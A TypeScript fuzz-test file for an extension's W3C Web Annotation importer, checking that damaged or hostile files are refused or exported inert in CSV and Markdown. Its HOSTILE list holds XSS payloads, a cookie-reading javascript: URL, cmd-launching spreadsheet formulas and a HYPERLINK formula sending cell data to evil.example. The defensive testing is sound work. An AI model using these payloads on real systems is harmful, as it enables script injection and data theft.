/**
 * Fuzz tests of the W3C Web Annotation import (lib/export/w3c-import.ts) and of what happens to imported
 * data afterwards: the library store and the CSV / Markdown / W3C exports.
 *
 * Inputs: a real export (the export test fixtures: Han, emoji, hostile page data) truncated at every 1/50th,
 * every field given a value of each wrong type, ids duplicated, a file over the 100 MB limit, and
 * `<script>`, `<img onerror>`, `javascript:` URLs, spreadsheet formulas and Markdown syntax in every string
 * field. Properties:
 * - every file is refused with a message naming the item and the field, or accepted;
 * - accepted strings are kept verbatim (control characters other than \n and \t aside, which the importer
 *   documents it removes), and the accepted data exports again and imports back equal;
 * - every accepted annotation anchors on its notice without error and in time, and could be saved again
 *   from a page's panel (it passes the background's annotation/put validator);
 * - the CSV export of accepted hostile data has no cell starting with = + - @ tab or CR, and the Markdown
 *   export has no live link, autolink, image, entity or raw HTML made from it;
 * - through the library store (Dexie on fake-indexeddb): an accepted file is stored as accepted, and a file
 *   refused by the importer or by the store leaves the library exactly as it was.
 * Cases are seeded (see run.ts for FUZZ_ONLY / FUZZ_SCALE / FUZZ_SEED); a failure names its seed.
 */
import { inspect } from 'node:util';
import { describe, expect, it } from 'vitest';
import { anchorSelectors } from '../../lib/anchoring';
import { toCsv } from '../../lib/export/csv';
import type { ExportItem } from '../../lib/export/highlights';
import { toMarkdown } from '../../lib/export/markdown';
import { DEFAULT_MAX_IMPORT_BYTES, fromW3C, parseImportFile, toW3CJson, type ImportResult } from '../../lib/export/w3c';
import { targetSource } from '../../lib/export/w3c-vocabulary';
import { importLibrary } from '../../lib/library/transfer';
import type { NoticeLensDB } from '../../lib/storage/db';
import { validateRequest } from '../../lib/messages/validate';
import { normaliseTags } from '../../lib/storage/limits';
import type { NoticeRepository } from '../../lib/storage/repository';
import type { Annotation, SavedNotice } from '../../lib/types';
import { noticeA, noticeB, noticeHostile } from '../export/fixtures';
import { freshRepo } from '../storage/fixtures';
import { ORDINARY_MS, timed } from './properties';
import { casesOf, reportCounts, runCases, timeout } from './run';

reportCounts('import');

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Failure = Extract<ImportResult, { ok: false }>;

const items = (): ExportItem[] => [noticeA(), noticeB(), noticeHostile()];
const EXPORT_TEXT = toW3CJson(items());
const EXPORT = JSON.parse(EXPORT_TEXT) as Json;
const clone = (): Json => JSON.parse(EXPORT_TEXT) as Json;

/** A thrown value as a failure message gives it: an Error as `Name: message`, anything else inspected. */
const thrownText = (e: unknown): string => (e instanceof Error ? String(e) : inspect(e));

/** Strings that are markup, links or formulas somewhere. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">点我</a>',
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)',
  '[点我](javascript:alert(1))',
  '![x](http://evil.example/x.png)',
  '<https://evil.example/>',
  '[ref]: javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  '<!-- 注释 --><?php ?>',
  '`code` **粗** _斜_ ~~删~~ ==高亮== $x$ %%注释%% ^ref',
  '# 标题\n- 列表\n1. 列表\n> 引用\n    代码\n| 表 | 格 |',
  '\\[转义\\](javascript:alert(1))',
  '<svg/onload=alert(1)>',
  '"><script>alert(1)</script>',
  '\u202Eevil\u202C',
  '😀\uD800孤立代理项',
];

/** C0 and C1 control characters but tab and line feed (as code points: a regex of them reads as a mistake). */
const isControl = (c: string) => {
  const p = c.codePointAt(0)!;
  return p <= 0x08 || (p >= 0x0b && p <= 0x1f) || (p >= 0x7f && p <= 0x9f);
};
const withoutControls = (s: string) => [...s].filter((c) => !isControl(c)).join('');

/* ----- Paths in the file, in the importer's own notation ----- */

interface Leaf {
  /** Path from the file's root, as keys and indexes. */
  keys: Array<string | number>;
  value: Json;
}

function leaves(v: Json, keys: Array<string | number> = [], out: Leaf[] = []): Leaf[] {
  out.push({ keys, value: v });
  if (Array.isArray(v)) v.forEach((x, i) => leaves(x, [...keys, i], out));
  else if (v !== null && typeof v === 'object') for (const [k, x] of Object.entries(v)) leaves(x, [...keys, k], out);
  return out;
}

function pathText(keys: Array<string | number>): string {
  let s = '';
  for (const k of keys) s = typeof k === 'number' ? `${s}[${k}]` : s ? `${s}.${k}` : k;
  return s;
}

/** The item (annotation or notice) a path lies in and the path inside it, as the importer names them. */
function placeOf(keys: Array<string | number>): { place: Failure['place']; inner: string } {
  if (keys[0] === 'first' && keys[1] === 'items' && typeof keys[2] === 'number') {
    return { place: { kind: 'annotation', index: keys[2] }, inner: pathText(keys.slice(3)) };
  }
  if (keys[0] === 'nl:notices' && typeof keys[1] === 'number')
    return { place: { kind: 'notice', index: keys[1] }, inner: pathText(keys.slice(2)) };
  return { place: { kind: 'file' }, inner: pathText(keys) };
}

function setAt(root: Json, keys: Array<string | number>, value: Json | undefined): Json {
  if (keys.length === 0) return value === undefined ? null : value;
  let parent = root as Record<string | number, Json>;
  for (const k of keys.slice(0, -1)) parent = parent[k] as Record<string | number, Json>;
  const last = keys[keys.length - 1];
  if (value === undefined) {
    if (Array.isArray(parent)) parent.splice(last as number, 1);
    else delete parent[last];
  } else parent[last] = value;
  return root;
}

/** Codes whose message does not print a field path (the file, or the item as a whole). */
const PATHLESS = new Set([
  'too-large',
  'invalid-json',
  'not-object',
  'wrong-context',
  'duplicate-id',
  'unknown-notice',
  'total-mismatch',
  'unsupported-version',
  'paged',
]);

/** A refusal is clear: both messages are there, name the item, and print the field they name. */
function messageProblems(f: Failure): string[] {
  const problems: string[] = [];
  if (f.error.trim() === '' || f.errorEn.trim() === '') problems.push(`empty message for ${f.code}`);
  const zh =
    f.place.kind === 'annotation'
      ? `第 ${f.place.index + 1} 条批注：`
      : f.place.kind === 'notice'
        ? `第 ${f.place.index + 1} 篇公文：`
        : '';
  const en =
    f.place.kind === 'annotation'
      ? `annotation ${f.place.index + 1}: `
      : f.place.kind === 'notice'
        ? `notice ${f.place.index + 1}: `
        : '';
  if (!f.error.startsWith(zh) || !f.errorEn.startsWith(en))
    problems.push(`message does not start with its item: ${f.error}`);
  if (f.path !== '' && !PATHLESS.has(f.code) && (!f.error.includes(f.path) || !f.errorEn.includes(f.path))) {
    problems.push(`message does not name ${f.path}: ${f.error}`);
  }
  return problems;
}

/** Does the refusal name the place that was changed (or a consequence of the change: an id, the total)? */
function namesPlace(f: Failure, keys: Array<string | number>): boolean {
  if (['unknown-notice', 'duplicate-id', 'total-mismatch'].includes(f.code)) return true;
  const { place, inner } = placeOf(keys);
  if (f.place.kind !== place.kind) return place.kind === 'file' && keys.length <= 2; // a whole list replaced
  if (f.place.kind !== 'file' && place.kind !== 'file' && f.place.index !== place.index) return false;
  const related = (a: string, b: string) => a === b || a.startsWith(`${b}.`) || a.startsWith(`${b}[`) || b === '';
  // A notice's text changed: its outline and clause offsets may now lie beyond it.
  if (inner === 'text' && /^(?:outline|obligations)\[\d+\](?:\.(?:start|end))?$/.test(f.path)) return true;
  return related(inner, f.path) || related(f.path, inner);
}

/* ----- What accepted data must look like, stored and exported ----- */

function exportItems(notices: SavedNotice[], annotations: Annotation[]): ExportItem[] {
  return notices.map((notice) => ({ notice, annotations: annotations.filter((a) => a.noticeId === notice.id) }));
}

/** RFC 4180 fields of our CSV (every field quoted). */
function csvCells(csv: string): string[] {
  const cells: string[] = [];
  const re = /"((?:[^"]|"")*)"/g;
  for (let m = re.exec(csv); m; m = re.exec(csv)) cells.push(m[1].replace(/""/g, '"'));
  return cells;
}

const AUTOLINK = /^<https?:\/\/[^\s<>]+>$/;

/** Live Markdown made from data: any unescaped [ ] < & ` (links, images, HTML, entities, code), bar our autolinks. */
function markdownProblems(md: string): string[] {
  const problems: string[] = [];
  for (const line of md.split('\n')) {
    const link = /^- \*\*来源链接\*\*：(<[^>]*>)$/.exec(line);
    if (link && AUTOLINK.test(link[1])) continue;
    const bare = line.replace(/\\[\x21-\x7e]/g, '');
    const live = /[[\]<&`]/.exec(bare);
    if (live) problems.push(`Markdown: unescaped ${JSON.stringify(live[0])} in ${JSON.stringify(line.slice(0, 120))}`);
  }
  return problems;
}

function exportProblems(result: Extract<ImportResult, { ok: true }>): string[] {
  const problems: string[] = [];
  // An imported annotation edited in a page's panel goes back to the background as it is (annotation/put):
  // it must pass the background's validator like one made on the page, or the edit is refused.
  for (const annotation of result.annotations) {
    // The page edits the annotation as the store gave it back (tags normalised by the store).
    const stored = { ...annotation, tags: normaliseTags(annotation.tags), note: '改' };
    const edited = validateRequest(JSON.parse(JSON.stringify({ type: 'annotation/put', annotation: stored })));
    if (!edited.ok) problems.push(`an accepted annotation cannot be saved again from a page: ${edited.error}`);
  }
  // Imported annotations are anchored on every visit to their notice: no throw, in time, inside the text.
  for (const a of result.annotations) {
    const notice = result.notices.find((n) => n.id === a.noticeId)!;
    const placed = timed(() => anchorSelectors(notice.text, a.selectors, notice.outline));
    if (placed.error) problems.push(`anchorSelectors threw ${thrownText(placed.error)}`);
    if (placed.ms > ORDINARY_MS) problems.push(`anchorSelectors took ${Math.round(placed.ms)} ms of CPU`);
    const span = placed.value;
    if (span && !(0 <= span.start && span.start <= span.end && span.end <= notice.text.length))
      problems.push(`anchored outside the text: ${span.start}-${span.end}`);
  }
  const list = exportItems(result.notices, result.annotations);
  const csv = timed(() => toCsv(list));
  if (csv.error) problems.push(`toCsv threw ${thrownText(csv.error)}`);
  for (const cell of csvCells(csv.value ?? '').slice(13)) {
    if (/^[=+\-@\t\r]/.test(cell))
      problems.push(`CSV: a cell starts with a formula character: ${JSON.stringify(cell.slice(0, 60))}`);
  }
  const md = timed(() => toMarkdown(list));
  if (md.error) problems.push(`toMarkdown threw ${thrownText(md.error)}`);
  problems.push(...markdownProblems(md.value ?? ''));
  const json = timed(() => toW3CJson(list));
  if (json.error) problems.push(`toW3CJson threw ${thrownText(json.error)}`);
  else {
    const again = parseImportFile(json.value!);
    if (!again.ok) problems.push(`our own export of accepted data is refused: ${again.error}`);
    else {
      const same =
        JSON.stringify([again.notices, again.annotations]) === JSON.stringify([result.notices, result.annotations]);
      if (!same) problems.push('the accepted data does not import back equal from its own export');
    }
  }
  return problems;
}

/** Every string in a value, deeply. */
function strings(v: unknown, out: string[] = []): string[] {
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) v.forEach((x) => strings(x, out));
  else if (v && typeof v === 'object') Object.values(v).forEach((x) => strings(x, out));
  return out;
}

/** Fields the importer reads and checks but does not keep (the W3C wrapping, our stylesheet, the source IRI). */
const NOT_KEPT =
  /^(?:@context|type|label|total|nl:formatVersion|first\.type|first\.startIndex|id$|first\.id$|first\.partOf$)|(?:^|\.)(?:type|motivation|stylesheet|purpose|format|language|created|modified|nl:deletedAt)(?:$|[.[])|^first\.items\[\d+\]\.(?:target\.source|target\.styleClass|id)$/;

/* ----- The library store ----- */

async function librarySnapshot(db: NoticeLensDB): Promise<string> {
  const tables = await Promise.all(db.tables.map(async (t) => [t.name, await t.toArray()] as const));
  return JSON.stringify(tables);
}

/** The library page's import: the file parsed, then stored in one transaction (entrypoints/library). */
async function importFile(repo: NoticeRepository, text: string): Promise<{ refused: string | null }> {
  const parsed = parseImportFile(text);
  if (!parsed.ok) return { refused: parsed.error };
  try {
    await importLibrary(repo, parsed.notices, parsed.annotations);
    return { refused: null };
  } catch (e) {
    return { refused: (e as Error).message };
  }
}

/** JSON with object keys sorted, to compare records whatever order their fields were written in. */
function canon(v: unknown): string {
  return JSON.stringify(v, (_k, x: unknown) =>
    x && typeof x === 'object' && !Array.isArray(x)
      ? Object.fromEntries(Object.entries(x).sort(([a], [b]) => (a < b ? -1 : 1)))
      : x,
  );
}

/** Accepted data as the store gives it back: verbatim, but for the store's documented tag normalisation. */
async function storedProblems(repo: NoticeRepository, result: Extract<ImportResult, { ok: true }>): Promise<string[]> {
  const problems: string[] = [];
  for (const n of result.notices) {
    const stored = await repo.getNotice(n.id);
    if (!stored) {
      problems.push(`notice ${n.id} not stored`);
      continue;
    }
    const want = { ...n, tags: normaliseTags(n.tags) };
    for (const key of [
      'metadata',
      'text',
      'outline',
      'obligations',
      'site',
      'saved',
      'tags',
      'createdAt',
      'updatedAt',
    ] as const) {
      if (canon(stored[key]) !== canon(want[key])) problems.push(`notice ${n.id}: stored ${key} differs from the file`);
    }
    const annotations = await repo.listAnnotations(n.id, { includeDeleted: true });
    for (const a of result.annotations.filter((x) => x.noticeId === n.id)) {
      const s = annotations.find((x) => x.id === a.id);
      if (!s) problems.push(`annotation ${a.id} not stored`);
      else if (canon(s) !== canon({ ...a, tags: normaliseTags(a.tags) }))
        problems.push(`annotation ${a.id}: stored differs from the file`);
    }
  }
  return problems;
}

/* ----- Tests ----- */

describe('import fuzz: the checks themselves', () => {
  it('catch live Markdown and formula cells', () => {
    expect(markdownProblems('批注：[点我](javascript:alert(1))')).toHaveLength(1);
    expect(markdownProblems('> <img src=x onerror=alert(1)>')).toHaveLength(1);
    expect(markdownProblems('批注：\\\\[x\\](y)')).toHaveLength(1); // an escaped backslash, then a live [
    expect(markdownProblems('批注：\\[点我\\](javascript:alert(1)) \\<b\\> \\&amp;')).toEqual([]);
    expect(markdownProblems('- **来源链接**：<https://www.gov.cn/a.htm>')).toEqual([]);
    expect(markdownProblems('- **来源链接**：<javascript:alert(1)>')).toHaveLength(1);
    expect(csvCells('"a","=1+1","\'=1+1"').filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual(['=1+1']);
  });
});

describe('import fuzz: damaged files', () => {
  it(
    'the export truncated at every 1/50th is refused as invalid JSON, saying where and that it may be truncated',
    () => {
      const failures = runCases('truncated at k/50', 2_000_000, 49, (r, _seed, i) => {
        // Every 1/50th first; in a larger run, random points after that. Every other one with a BOM.
        const at = i < 49 ? Math.floor((EXPORT_TEXT.length * (i + 1)) / 50) : r.int(EXPORT_TEXT.trimEnd().length);
        const cut = EXPORT_TEXT.slice(0, at);
        const problems: string[] = [];
        const run = timed(() => parseImportFile(i % 2 === 0 ? `\uFEFF${cut}` : cut));
        if (run.error) return [`threw ${thrownText(run.error)}`];
        if (run.ms > 2_000) problems.push(`took ${Math.round(run.ms)} ms of CPU`);
        const result = run.value!;
        if (result.ok) return [`a file cut at ${cut.length} of ${EXPORT_TEXT.length} was accepted`];
        if (result.code !== 'invalid-json') problems.push(`refused as ${result.code}, not invalid-json`);
        const lines = cut.split('\n');
        if (
          !result.error.includes(`第 ${lines.length} 行`) ||
          !/截断/.test(result.error) ||
          !/truncated/.test(result.errorEn)
        ) {
          problems.push(`message does not give the last line or say truncated: ${result.error}`);
        }
        return [...problems, ...messageProblems(result)];
      });
      expect(failures).toEqual([]);
    },
    timeout(120_000),
  );

  it(
    'every field given a value of a wrong type, or removed, is refused naming the item and field (or accepted and consistent)',
    () => {
      const all = leaves(EXPORT);
      const WRONG: Array<[string, Json | undefined]> = [
        ['null', null],
        ['number', 7],
        ['negative', -1],
        ['fraction', 0.5],
        ['a billion', 1e9],
        ['huge number', 1e308],
        ['string', 'x'],
        ['empty string', ''],
        ['long string', '长'.repeat(30_000)],
        ['boolean', true],
        ['array', []],
        ['object', {}],
        ['removed', undefined],
        ['array nested 20,000 deep', JSON.parse(`${'['.repeat(20_000)}"x"${']'.repeat(20_000)}`) as Json],
        ['object nested 20,000 deep', JSON.parse(`${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`) as Json],
        ['a long array', Array.from({ length: 200_000 }, (_, i) => i)],
        ['__proto__ key', JSON.parse('{"__proto__": {"polluted": 1}, "type": "x"}') as Json],
      ];
      const size = (v: Json) =>
        Array.isArray(v) ? v.length : v !== null && typeof v === 'object' ? Object.keys(v).length : -1;
      /** No change: the same primitive, or an empty list or object for an empty one (never stringified: some are 20,000 deep). */
      const sameValue = (a: Json, b: Json) =>
        a === b ||
        (typeof a === 'object' &&
          typeof b === 'object' &&
          a !== null &&
          b !== null &&
          Array.isArray(a) === Array.isArray(b) &&
          size(a) === 0 &&
          size(b) === 0);
      const failures = runCases('wrong type in a field', 2_100_000, all.length * 2, (r, _seed, i) => {
        const leaf = all[i % all.length];
        let [name, value] = r.pick(WRONG);
        while (value !== undefined && sameValue(value, leaf.value)) [name, value] = r.pick(WRONG);
        const json = setAt(clone(), leaf.keys, value);
        const where = `${pathText(leaf.keys)} ← ${name}`;
        const res = timed(() => fromW3C(json));
        if (res.error) return [`${where}: threw ${thrownText(res.error)}`];
        const result = res.value!;
        if (!result.ok) {
          const problems = messageProblems(result);
          if (!namesPlace(result, leaf.keys))
            problems.push(
              `refusal names ${result.place.kind} ${'index' in result.place ? result.place.index : ''} ${result.path}: ${result.error}`,
            );
          return problems.map((p) => `${where}: ${p}`);
        }
        return exportProblems(result).map((p) => `${where} accepted: ${p}`);
      });
      expect(failures).toEqual([]);
    },
    timeout(120_000),
  );

  it(
    'duplicated ids are refused naming the id and both items',
    () => {
      const failures = runCases('duplicated id', 2_200_000, 60, (r) => {
        const json = clone() as { first: { items: Json[] }; 'nl:notices': Json[]; total: number };
        const annotations = json.first.items;
        const notices = json['nl:notices'];
        const kind = r.int(3);
        if (kind === 0) {
          const a = r.int(annotations.length);
          annotations.splice(r.int(annotations.length + 1), 0, JSON.parse(JSON.stringify(annotations[a])) as Json);
          json.total = annotations.length;
        } else if (kind === 1) {
          const n = r.int(notices.length);
          notices.splice(r.int(notices.length + 1), 0, JSON.parse(JSON.stringify(notices[n])) as Json);
        } else {
          // The same id written two ways: as a urn:uuid: IRI and bare.
          const a = annotations[r.int(annotations.length)] as Record<string, Json>;
          const copy = JSON.parse(JSON.stringify(a)) as Record<string, Json>;
          copy.id = (a.id as string).replace(/^urn:uuid:/, '');
          annotations.push(copy);
          json.total = annotations.length;
        }
        const result = fromW3C(json);
        if (result.ok) return ['a file with a duplicated id was accepted'];
        const problems = messageProblems(result);
        if (result.code !== 'duplicate-id') problems.push(`refused as ${result.code}: ${result.error}`);
        else if (!/另见第 \d+ (条批注|篇公文)/.test(result.error))
          problems.push(`the other item is not named: ${result.error}`);
        return problems;
      });
      expect(failures).toEqual([]);
    },
    timeout(120_000),
  );

  it(
    'a file over the 100 MB limit is refused by its size at once, without being parsed',
    () => {
      const failures = runCases('over 100 MB', 2_300_000, 2, (_r, _seed, i) => {
        // ASCII over the limit in characters, or Han under it in characters but over it in UTF-8 bytes.
        const text =
          i % 2 === 0
            ? `{"first": {"items": [${'{"x": 1}, '.repeat(Math.ceil(DEFAULT_MAX_IMPORT_BYTES / 10))}`
            : `{"label": "${'汉'.repeat(Math.ceil(DEFAULT_MAX_IMPORT_BYTES / 3) + 1)}"}`;
        const r = timed(() => parseImportFile(text));
        const problems: string[] = [];
        if (r.error) return [`threw ${thrownText(r.error)}`];
        if (r.ms > 2_000) problems.push(`took ${Math.round(r.ms)} ms of CPU to refuse ${text.length} characters`);
        const result = r.value!;
        if (result.ok || result.code !== 'too-large')
          return [`not refused for its size: ${result.ok ? 'accepted' : result.error}`];
        if (!/^文件过大（至少 \d+ 字节，上限 104857600 字节），未读取$/.test(result.error))
          problems.push(`unclear message: ${result.error}`);
        return [...problems, ...messageProblems(result)];
      });
      expect(failures).toEqual([]);
    },
    timeout(120_000),
  );
});

describe('import fuzz: hostile strings', () => {
  const stringLeaves = leaves(EXPORT).filter((l) => typeof l.value === 'string');

  it(
    'markup, links and formulas in every string field: refused clearly, or kept verbatim and exported inert',
    () => {
      const failures = runCases('hostile string in a field', 2_400_000, stringLeaves.length * 3, (r, _seed, i) => {
        const leaf = stringLeaves[i % stringLeaves.length];
        const hostile = r.chance(0.8) ? r.pick(HOSTILE) : `${leaf.value as string}${r.pick(HOSTILE)}`;
        const json = setAt(clone(), leaf.keys, hostile);
        const where = `${pathText(leaf.keys)} ← ${JSON.stringify(hostile).slice(0, 60)}`;
        const res = timed(() => fromW3C(json));
        if (res.error) return [`${where}: threw ${thrownText(res.error)}`];
        const result = res.value!;
        if (!result.ok) {
          const problems = messageProblems(result);
          if (!namesPlace(result, leaf.keys)) problems.push(`refusal names ${result.path}: ${result.error}`);
          return problems.map((p) => `${where}: ${p}`);
        }
        const problems: string[] = [];
        // Notes and tags keep line breaks as \n (a \r\n or lone \r becomes \n); elsewhere \r is removed.
        const kept = [withoutControls(hostile), withoutControls(hostile.replace(/\r\n?/g, '\n'))];
        const found = strings([result.notices, result.annotations]);
        if (!NOT_KEPT.test(pathText(leaf.keys)) && !kept.some((k) => found.includes(k))) {
          problems.push('accepted, but the string is not kept verbatim');
        }
        problems.push(...exportProblems(result));
        return problems.map((p) => `${where}: ${p}`);
      });
      expect(failures).toEqual([]);
    },
    timeout(120_000),
  );
});

describe('import fuzz: through the library store', () => {
  it(
    'an accepted file is stored as it reads; a file refused by the importer or the store leaves the library as it was',
    async () => {
      const { repo, db } = freshRepo();
      const base = parseImportFile(EXPORT_TEXT);
      if (!base.ok) throw new Error(`the base export is refused: ${base.error}`);
      await importLibrary(repo, base.notices, base.annotations);
      const before = await librarySnapshot(db);
      const stringLeaves = leaves(EXPORT).filter((l) => typeof l.value === 'string');
      const failures: string[] = [];
      let accepted = 0;
      let refusedByImporter = 0;
      let refusedByStore = 0;

      const damaged = casesOf('store: a damaged or hostile file', 2_500_000, 80, (r) => {
        const json = clone();
        for (let k = r.between(1, 3); k > 0; k--) {
          const leaf = r.pick(stringLeaves);
          setAt(
            json,
            leaf.keys,
            r.chance(0.5) ? r.pick(HOSTILE) : r.pick<Json>([null, 1, [], {}, '', 'x'.repeat(r.between(1, 30_000))]),
          );
        }
        const text = JSON.stringify(json);
        return r.chance(0.2) ? text.slice(0, r.int(text.length)) : text;
      });
      for (const { seed, input: text } of damaged) {
        const parsed = parseImportFile(text);
        if (parsed.ok) {
          // Accepted: into an empty library, then compared field by field with what the importer read.
          accepted++;
          const fresh = freshRepo();
          const empty = await librarySnapshot(fresh.db);
          const outcome = await importFile(fresh.repo, text);
          if (outcome.refused !== null) {
            failures.push(`seed ${seed}: accepted by the importer, refused by the store: ${outcome.refused}`);
            if ((await librarySnapshot(fresh.db)) !== empty)
              failures.push(`seed ${seed}: the library changed after the store refused an import`);
          } else failures.push(...(await storedProblems(fresh.repo, parsed)).map((p) => `seed ${seed}: ${p}`));
          fresh.db.close();
        } else {
          refusedByImporter++;
          const outcome = await importFile(repo, text);
          if (outcome.refused === null) failures.push(`seed ${seed}: refused by the importer, yet stored`);
          if ((await librarySnapshot(db)) !== before)
            failures.push(`seed ${seed}: the library changed after a refused import`);
        }
      }

      // Files the importer takes and the store refuses: an annotation already in the library moved to another
      // notice (a conflict) among newer, hostile copies of every notice. The whole import must be undone.
      const conflicts = casesOf('store: an annotation moved to another notice', 2_600_000, 20, (r) => {
        const json = clone() as {
          first: { items: Array<{ target: Record<string, Json>; modified: string }> };
          'nl:notices': Array<{ id: string; updatedAt: number; text: string }>;
        };
        const ids = json['nl:notices'].map((n) => n.id);
        const item = json.first.items[r.int(json.first.items.length)];
        item.target['nl:noticeId'] = r.pick(ids.filter((id) => id !== item.target['nl:noticeId']));
        // Moved whole (its source too), so the file agrees with itself and only the store can see the move.
        const moved = json['nl:notices'].find((n) => n.id === item.target['nl:noticeId']);
        item.target.source = targetSource(moved as unknown as SavedNotice);
        // Its text position belonged to the old notice's text; the quote alone places it in the new one.
        item.target.selector = (item.target.selector as Array<{ type: string }>).filter(
          (s) => s.type !== 'TextPositionSelector',
        );
        item.modified = '2030-01-01T00:00:00.000Z';
        for (const n of json['nl:notices']) {
          n.updatedAt = 1_900_000_000_000;
          n.text += r.pick(HOSTILE);
        }
        return JSON.stringify(json);
      });
      for (const { seed, input: text } of conflicts) {
        if (!parseImportFile(text).ok) {
          failures.push(`seed ${seed}: refused by the importer`);
          continue;
        }
        const outcome = await importFile(repo, text);
        if (outcome.refused === null) failures.push(`seed ${seed}: an annotation moved to another notice was stored`);
        else refusedByStore++;
        if ((await librarySnapshot(db)) !== before)
          failures.push(`seed ${seed}: the library changed after the store refused an import`);
      }
      db.close();
      if (
        damaged.length + conflicts.length >= 100 &&
        (accepted === 0 || refusedByImporter === 0 || refusedByStore === 0)
      ) {
        failures.push(
          `not every path was taken: ${accepted} accepted, ${refusedByImporter} refused by the importer, ${refusedByStore} by the store`,
        );
      }
      expect(failures).toEqual([]);
    },
    timeout(120_000),
  );
});
